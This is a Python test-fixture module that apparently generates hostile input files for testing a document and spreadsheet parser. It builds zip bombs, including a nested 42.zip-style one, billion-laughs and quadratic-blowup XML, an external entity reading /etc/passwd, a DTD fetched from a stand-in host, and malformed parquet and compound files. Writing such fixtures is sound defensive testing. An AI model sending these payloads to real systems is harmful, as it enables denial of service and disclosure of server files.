"""Files made to hurt whoever opens them. Each function gives the bytes of one; nothing here is kept on a disk."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

import docx
import msoffcrypto
import polars as pl
import xlsxwriter
from msoffcrypto.format.ooxml import OOXMLFile

SAMPLES = Path(__file__).parents[1] / "samples"
MIB = 1024 * 1024


def xlsx() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for row in range(200):
            sheet.write_row(row, 0, [f"名称{row}", row, row / 7])
    return out.getvalue()


def document() -> bytes:
    made = docx.Document()
    made.add_paragraph("标题")
    table = made.add_table(20, 3)
    for row, line in enumerate(table.rows):
        line.cells[0].text = f"名称{row}"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def ods() -> bytes:
    return (SAMPLES / "table.libreoffice.ods").read_bytes()


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def parquet(rows: int = 1000) -> bytes:
    out = io.BytesIO()
    pl.DataFrame({"a": [f"甲{i % 7}" for i in range(rows)], "b": range(rows)}).write_parquet(out)
    return out.getvalue()


def zipped(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def changed(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The archive with one part changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert part in archive.namelist(), part
        return zipped((n, change(archive.read(n)) if n == part else archive.read(n)) for n in archive.namelist())


def zeros(size: int) -> bytes:
    """A raw deflate stream of `size` zero bytes, made of one block again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size // MIB) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def member_of(name: str, packed: bytes, size: int, *, flags: int = 0, checksum: int = 0) -> bytes:
    """An archive of one deflated member, of which the directory may say what it likes."""
    return by_hand([(name, packed, size, checksum)], flags)


def by_hand(members: Iterable[tuple[str, bytes, int, int]], flags: int = 0) -> bytes:
    """An archive of deflated members: name, packed bytes, and the size and checksum that the directory gives them."""
    body, directory, count = bytearray(), bytearray(), 0
    for name, packed, size, checksum in members:
        raw = name.encode()
        about = struct.pack("<5H3L", 20, 0x800 | flags, 8, 0, 33, checksum, len(packed), size)
        directory += b"PK\1\2" + struct.pack("<H", 0x031E) + about
        directory += struct.pack("<5H2L", len(raw), 0, 0, 0, 0, 0, len(body)) + raw
        body += b"PK\3\4" + about + struct.pack("<2H", len(raw), 0) + raw + packed
        count += 1
    end = struct.pack("<4H2LH", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory) + b"PK\5\6" + end


def lying_about(data: bytes, part: str) -> bytes:
    """The archive, one part of which expands to 4 GiB where the directory says 1,000 bytes."""

    def packed(content: bytes) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(content) + packer.flush()

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert part in archive.namelist()
        contents = {name: archive.read(name) for name in archive.namelist()}
    return by_hand(
        (name, zeros(4095 * MIB), 1000, 0)
        if name == part
        else (name, packed(content), len(content), zlib.crc32(content))
        for name, content in contents.items()
    )


def nested_bomb(width: int = 16, depth: int = 5) -> bytes:
    """Like 42.zip: archives of archives, the innermost of which are files of 256 MiB."""
    data = member_of("0.csv", zeros(256 * MIB), 256 * MIB, checksum=zlib.crc32(bytes(256 * MIB)))
    for level in range(depth):
        data = zipped((f"{level}-{i}.zip", data) for i in range(width))
    return data


def doll(depth: int) -> bytes:
    data = b"a,b\n1,2\n"
    for _ in range(depth):
        data = zipped([("a.zip" if data.startswith(b"PK") else "a.csv", data)])
    return data


def encrypted_office(data: bytes) -> bytes:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt("密码", out)
    assert msoffcrypto.OfficeFile(io.BytesIO(out.getvalue())).is_encrypted()
    return out.getvalue()


def encrypted_ods() -> bytes:
    """The manifest of an encrypted file, and a content that is noise."""
    noise = bytes(range(256)) * 8
    entry = b'<manifest:encryption-data manifest:checksum-type="SHA1/1K"/></manifest:file-entry></manifest:manifest>'
    data = changed(
        ods(),
        "META-INF/manifest.xml",
        lambda xml: xml.replace(b"</manifest:manifest>", b'<manifest:file-entry manifest:full-path="x">' + entry),
    )
    return changed(data, "content.xml", lambda _: noise)


def encrypted_xls() -> bytes:
    """A BIFF8 stream whose second record says that all after it is encrypted (RC4)."""
    start = b"\x09\x08\x10\x00\x00\x06\x05\x00\xbb\x0d\xcc\x07\x00\x00\x00\x00\x06\x00\x00\x00"
    password = b"\x2f\x00\x36\x00\x01\x00\x01\x00\x01\x00" + bytes(range(48))
    return start + password + b"\x42\x00\x02\x00\xb0\x04" + bytes(range(200)) + b"\x0a\x00\x00\x00"


# A document type is put in front of the root element, and its entity into the first element that takes text.
def with_entities(declared: str, text: str) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
        root_end = xml.index(b">", end) + 1
        return xml[:end] + f"<!DOCTYPE x [{declared}]>".encode() + xml[end:root_end] + text.encode() + xml[root_end:]

    return change


LAUGHS = "".join(
    f'<!ENTITY l{level} "{"&l" + str(level - 1) + ";" if level else "ha"}{f"&l{level - 1};" * 9 if level else ""}">'
    for level in range(12)
)
ENTITIES = {
    "laughs": with_entities(LAUGHS, "&l11;"),
    "external": with_entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    "network": with_entities('<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;', ""),
    "quadratic": with_entities(f'<!ENTITY x "{"x" * 100_000}">', "&x;" * 50_000),
}


def into_root(content: bytes) -> Callable[[bytes], bytes]:
    """Puts `content` right behind the start of the root element."""

    def change(xml: bytes) -> bytes:
        start = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
        at = xml.index(b">", start) + 1
        return xml[:at] + content + xml[at:]

    return change


def deep(levels: int = 100_000) -> Callable[[bytes], bytes]:
    return into_root(b"<a>" * levels + b"</a>" * levels)


def huge_attribute(size: int = 24 * MIB) -> Callable[[bytes], bytes]:
    return into_root(b'<a b="' + b"c" * size + b'"/>')


def many_attributes(count: int = 1_000_000) -> Callable[[bytes], bytes]:
    return into_root(b"<a " + b" ".join(b'b%d=""' % i for i in range(count)) + b"/>")


SHEET = "xl/worksheets/sheet1.xml"


def with_cells(cells: bytes, merges: bytes = b"") -> bytes:
    def change(xml: bytes) -> bytes:
        start, end = xml.index(b"<sheetData"), xml.index(b"</sheetData>") + len(b"</sheetData>")
        return xml[:start] + b"<sheetData>" + cells + b"</sheetData>" + merges + xml[end:]

    return changed(xlsx(), SHEET, change)


def number(address: str, value: str = "1") -> bytes:
    row = "".join(c for c in address if c.isdigit())
    return f'<row r="{row}"><c r="{address}"><v>{value}</v></c></row>'.encode()


def many_merges(count: int = 1_000_000) -> bytes:
    ranges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (i, i) for i in range(1, count + 1))
    return with_cells(number("A1"), b'<mergeCells count="%d">' % count + ranges + b"</mergeCells>")


def many_sheets(count: int = 1_000_000) -> bytes:
    names = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>' % (i, i) for i in range(count))
    return changed(xlsx(), "xl/workbook.xml", lambda xml: xml.replace(b"<sheets>", b"<sheets>" + names))


def strings_bomb(length: int, cells: int) -> bytes:
    """One long shared string, and many cells that show it."""
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (i, i) for i in range(1, cells + 1))
    data = with_cells(rows)
    string = b"<si><t>" + b"x" * length + b"</t></si>"
    return changed(data, "xl/sharedStrings.xml", into_root(string))


def many_strings(count: int = 10_000_000) -> bytes:
    return changed(xlsx(), "xl/sharedStrings.xml", into_root(b"<si><t>x</t></si>" * count))


def ods_with(table: str) -> bytes:
    def change(xml: bytes) -> bytes:
        start = xml.index(b"<table:table ")
        return xml[:start] + f'<table:table table:name="x">{table}</table:table>'.encode() + xml[start:]

    return changed(ods(), "content.xml", change)


def ods_repeated(rows: int, columns: int, value: str) -> bytes:
    typed = f'office:value-type="float" office:value="{value}"' if value else ""
    cell = f'<table:table-cell table:number-columns-repeated="{columns}" {typed}/>'
    return ods_with(f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>')


def lying_parquet() -> bytes:
    """Says 8,191 rows where there are 1,000: both numbers take two bytes in the footer."""
    data = parquet(1000)
    length = int.from_bytes(data[-8:-4], "little")
    footer = data[-8 - length : -8]
    told = footer.replace(b"\xd0\x0f", b"\xfe\x7f")
    assert told != footer
    return data[: -8 - length] + told + data[-8:]


def endless_footer() -> bytes:
    data = parquet(10)
    return data[:-8] + b"\xff\xff\xff\x7f" + b"PAR1"


def document_with(body: str) -> bytes:
    def change(xml: bytes) -> bytes:
        start = xml.index(b"<w:body>") + len(b"<w:body>")
        return xml[:start] + body.encode() + xml[start:]

    return changed(document(), "word/document.xml", change)


def looping_compound() -> bytes:
    """A compound file whose directory's sectors follow each other in a circle."""
    data = bytearray(sample("table.libreoffice.xls"))
    table = struct.unpack_from("<L", data, 76)[0]
    first = struct.unpack_from("<L", data, 48)[0]
    struct.pack_into("<L", data, (table + 1) * 512 + 4 * first, first)
    return bytes(data)
